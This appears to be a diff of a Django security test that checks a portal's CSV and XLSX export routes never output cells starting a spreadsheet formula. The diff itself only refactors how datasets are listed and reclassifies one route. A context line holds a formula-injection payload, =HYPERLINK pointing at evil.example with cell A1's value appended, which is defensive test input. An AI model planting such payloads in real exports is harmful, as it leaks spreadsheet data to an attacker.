@@ -13,7 +13,7 @@ from django.urls import reverse
 from tests.web import test_access as matrix
 from tests.web.security.test_xss import MACHINE_FIELDS
 
-from prongsai.apps.portal.opendata import DATASETS
+from prongsai.apps.base.opendata import registered_datasets
 
 FORMULA_PAYLOADS = {
     "equals": "=HYPERLINK(\"https://evil.example/?\"&A1,\"คลิก\")",
@@ -31,7 +31,7 @@ TABULAR_ROUTES = {"portal:dataset_download", "oit:itas_export", "rounds:export",
 NOT_TABULAR = {"portal:data_catalog_json", "registers:asset_qr", "registers:inventory_report",
                "registers:ethics_report",
                "surveys:round_qr", "surveys:round_poster", "surveys:official_poster", "oit:check_download",
-               "rounds:report", "rounds:poster"}
+               "rounds:report", "rounds:poster", "frameworks:export"}
 
 
 def test_every_export_route_is_classified():
@@ -92,7 +92,7 @@ def _export_urls(world, objects) -> list[tuple[str, str, str]]:
     own = world.own
     urls = [("portal:dataset_download", fmt, reverse("portal:dataset_download",
                                                      kwargs={"slug": own.slug, "dataset": slug, "fmt": fmt}))
-            for slug in DATASETS for fmt in ("csv", "xlsx")]
+            for slug in registered_datasets() for fmt in ("csv", "xlsx")]
     urls.append(("assessments:import_template", "xlsx",
                  reverse("assessments:import_template", kwargs={"agency_slug": own.slug})))
     urls.append(("registers:asset_import_template", "csv",
@@ -112,7 +112,7 @@ def test_no_export_starts_a_formula(client, every_page_objects, payload):
     _poison(FORMULA_PAYLOADS[payload])
     client.force_login(world.user("coordinator"))
     urls = _export_urls(world, objects)
-    assert len(urls) >= 2 * len(DATASETS) + 2
+    assert len(urls) >= 2 * len(registered_datasets()) + 2
     wrong, seen = [], 0
     for _name, fmt, url in urls:
         response = client.get(url)
